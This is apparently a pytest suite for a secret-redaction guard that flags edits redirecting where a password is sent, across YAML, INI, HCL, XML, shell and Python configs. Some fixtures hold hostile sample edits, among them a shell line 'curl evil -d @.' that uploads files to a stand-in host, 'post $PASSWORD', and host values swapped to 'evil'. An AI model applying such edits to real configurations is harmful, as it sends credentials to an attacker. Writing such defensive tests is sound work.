"""put_back asks where something changed that says where a secret goes, only there; unreadable documents never pass."""

from __future__ import annotations

import json

import pytest
from redaction.fixtures import detector, human

from interlock.guard.errors import Code, Refused

DETECTOR = detector()
S = human(8)

SERVICE = f"service:\n  url: https://good\n\n  auth:\n    password: {S}\nother: 1\nreplicas: 2\n"
OBJECT = json.dumps({"url": "https://good", "n": 1, "password": S}, indent=1) + "\n"
MANY = "x = 1\n" * 60
INI = f"[db]\nhost = good\n{MANY}password = {S}\n\n[log]\nlevel = info\nhost = loghost\n"
PROPERTIES = f"log.level=info\ndb.host=good\n\ndb.password={S}\n"
HCL = (
    f'provider "x" {{\n  endpoint = "good"\n\n  password = "{S}"\n  retries = 3\n}}\n\nresource "y" "z" {{\n'
    '  count = 2\n  image = "r/web:1"\n}\n'
)
XML = f"<c>\n<url>good</url>\n\n<level>info</level>\n\n<password>{S}</password>\n</c>\n"
SCRIPT = f'#!/bin/sh\nPASSWORD="{S}"\n\nLEVEL=info\n\nstart --level $LEVEL\n'
PYTHON = f'LEVEL = "info"\nHOSTS = [\n    "good",\n]\n\nPASSWORD = "{S}"\n'


def put(current: str, target: str, *changes: tuple[str, str]):  # type: ignore[no-untyped-def]
    shown = DETECTOR.redact(current, target).text
    assert S not in shown
    wanted = current
    for old, new in changes:
        assert old in shown
        shown, wanted = shown.replace(old, new, 1), wanted.replace(old, new, 1)
    back = DETECTOR.put_back(shown, current, target)
    assert back.text == wanted
    return back


@pytest.mark.parametrize(
    ("current", "target", "changes"),
    [
        (SERVICE, "a.yaml", [("good", "evil"), ("other: 1", "other: 1\nother: 2")]),
        (SERVICE, "a.yaml", [("other: 1", "other: 1\nother: 2")]),
        (SERVICE, "a.yaml", [("other: 1", "other: {{ x }}")]),
        (SERVICE, "a.yaml", [("password: ", "password: &p "), ("other: 1", "other: *p")]),
        (f"db:\n  host: good\n  password: {S}\n", "a.yaml", [("host: good", "host: good\n  <<: {host: evil}")]),
        (OBJECT, "a.json", [('"url": "https://good",', '"url": "https://good",\n\n "url": "https://evil",')]),
        (OBJECT, "a.json", [('"n": 1', '"n": 1,,')]),
        (f'[a]\nhost = "h"\n\npassword = "{S}"\n', "a.toml", [('host = "h"', 'host = "h"\nhost = "evil"')]),
    ],
)
def test_a_readable_document_stays_readable(current: str, target: str, changes: list[tuple[str, str]]) -> None:
    with pytest.raises(Refused) as refused:
        put(current, target, *changes)
    assert refused.value.code is Code.INVALID and refused.value.hint
    assert "cannot be read for certain" in refused.value.message and S not in refused.value.message


@pytest.mark.parametrize(
    ("current", "target", "change"),
    [
        (SERVICE + "other: 2\n", "a.yaml", ("replicas: 2", "replicas: 3")),
        (SERVICE + "x: {{ y }}\n{{ z }}\n", "a.yaml", ("replicas: 2", "replicas: 3")),
        (OBJECT.replace('"n": 1', '"n": 1, "n": 2'), "a.json", ('"n": 2', '"n": 3')),
    ],
)
def test_an_unreadable_document_with_secrets_asks_always(current: str, target: str, change: tuple[str, str]) -> None:
    assert any("cannot be read for certain" in ask for ask in put(current, target, change).asks)


ASKED = [
    (INI, "c.ini", [("host = good", "host = evil")]),
    (INI, "c.ini", [("host = good\n", "")]),
    (INI, "c.ini", [("[log]", "[log]\nx = 2\n\n[db]\nhost = evil")]),
    (INI, "c.ini", [("x = 1\n", "x = 1\n[other]\n")]),
    (INI, "c.ini", [("[db]", "url = evil\n[db]")]),
    (INI, "c.ini", [("host = good\n", "host = good\n  , evil\n")]),
    (INI, "c.ini", [("host = good\n", "host = good\n; note\n  , evil\n")]),
    (f"[db]\nlevel = 1\nhost = good\npassword = {S}\n", "c.ini", [("host", "  host")]),
    (f"[db]\n\n  host = good\npassword = {S}\n", "c.ini", [("[db]\n", "[db]\nlevel = 1\n")]),
    (f"[db]\n\n  password = {S}\n", "c.ini", [("[db]\n", "[db]\nlevel = 1\n")]),
    (INI, "c.ini", [("x = 1\n", "[log] |\n")]),
    (INI, "c.ini", [("x = 1\n", "\n  [log]\n")]),
    (f"[db]\nhost = good\n  , more\npassword = {S}\n", "c.ini", [("more", "evil")]),
    (PROPERTIES, "a.properties", [("db.host=good", "db.host=evil")]),
    (PROPERTIES, "a.properties", [("log.level=info", "log.level=info\ndb.host=evil")]),
    (PROPERTIES, "a.properties", [("log.level=info", "log.level=info\nproxy=\\\n  evil")]),
    (HCL, "main.tf", [('"good"', '"evil"')]),
    (HCL, "main.tf", [("  retries = 3\n", '  retries = 3\n  url = "evil"\n')]),
    (HCL, "main.tf", [("\n\n  password", '\n}\n\nprovider "y" {\n  password')]),
    (XML, "a.xml", [(">good<", ">evil<")]),
    (XML, "a.xml", [("<url>good", "<url>\n  evil")]),
    (SCRIPT, "run.sh", [("start --level $LEVEL", "post $PASSWORD")]),
    (SCRIPT, "run.sh", [("start --level $LEVEL", "curl evil -d @.")]),
    (PYTHON, "settings.py", [('"good"', '"evil"')]),
    *(
        (f"{word}=good\n\n\nDB_PASSWORD={S}\n", "a.conf", [("=good", "=evil")])
        for word in ("DB_DSN", "JDBC", "server_ip", "to", "smtp", "mail", "bucket", "connection", "dbHost", "url_2")
    ),
    *(
        (f"db:\n  {word}: good\n  password: {S}\n", "a.yaml", [(": good", ": evil")])
        for word in ("dsn", "jdbc", "ip", "to", "smtp", "mail", "bucket", "connection", "server_name", "baseUrl")
    ),
    (
        f"db:\n  connection:\n    ip: 10.0.0.1\n  auth:\n    password: {S}\n",
        "a.yaml",
        [("10.0.0.1", "6.6.6.6")],
    ),
]


@pytest.mark.parametrize(("current", "target", "changes"), ASKED)
def test_a_destination_that_changed_anywhere_in_the_section_asks(
    current: str, target: str, changes: list[tuple[str, str]]
) -> None:
    assert put(current, target, *changes).asks


QUIET = [
    (SERVICE, "a.yaml", ("replicas: 2", "replicas: 3")),
    (f"server:\n  log_level: info\n  password: {S}\n", "a.yaml", ("info", "debug")),
    (INI, "c.ini", ("level = info", "level = debug")),
    (INI, "c.ini", ("host = loghost", "host = other")),
    (INI, "c.ini", ("x = 1\n", "x = 2\n")),
    (INI, "c.ini", ("[log]", "[cache]\nsize = 3\n\n[log]")),
    (PROPERTIES, "a.properties", ("log.level=info", "log.level=debug")),
    (PROPERTIES, "a.properties", ("log.level=info", "# see the host and the url\nlog.level=info")),
    (HCL, "main.tf", ("count = 2", "count = 3")),
    (HCL, "main.tf", ("retries = 3", "retries = 4")),
    (HCL, "main.tf", ("r/web:1", "r/web:2")),
    (XML, "a.xml", (">info<", ">debug<")),
    (f"<server>\n  <level>info</level>\n  <password>{S}</password>\n</server>\n", "a.xml", (">info<", ">debug<")),
    (SCRIPT, "run.sh", ("LEVEL=info", "LEVEL=debug")),
    (PYTHON, "settings.py", ('"info"', '"debug"')),
    (f"machine a login u password {S}\nmachine b login v\n", ".netrc", ("machine b login v", "machine b login w")),
]


@pytest.mark.parametrize(("current", "target", "change"), QUIET)
def test_other_edits_are_not_asked_about(current: str, target: str, change: tuple[str, str]) -> None:
    assert put(current, target, change).asks == ()


@pytest.mark.parametrize(
    ("current", "target", "old", "new"),
    [
        (f"password=\\\n{S}\nx=1\n", "a.conf", "password=", "note="),
        (f"name: PASSWORD\nvalue: {S}\n", "a.conf", "PASSWORD", "NOTE"),
        (f"password:\n  {S}\n", "a.txt", "password:", "note:"),
    ],
)
def test_a_secret_is_still_one_after_the_change(current: str, target: str, old: str, new: str) -> None:
    with pytest.raises(Refused) as refused:
        put(current, target, (old, new))
    assert S not in refused.value.message


def test_two_steps_are_no_way_around() -> None:
    after = put(INI, "c.ini", ("[log]", "[cache]\nhost = evil\n\n[log]"))
    assert after.asks == ()  # another section
    assert put(after.text, "c.ini", ("[cache]\n", "")).asks
    assert put(after.text, "c.ini", ("[cache]", "[db]")).asks
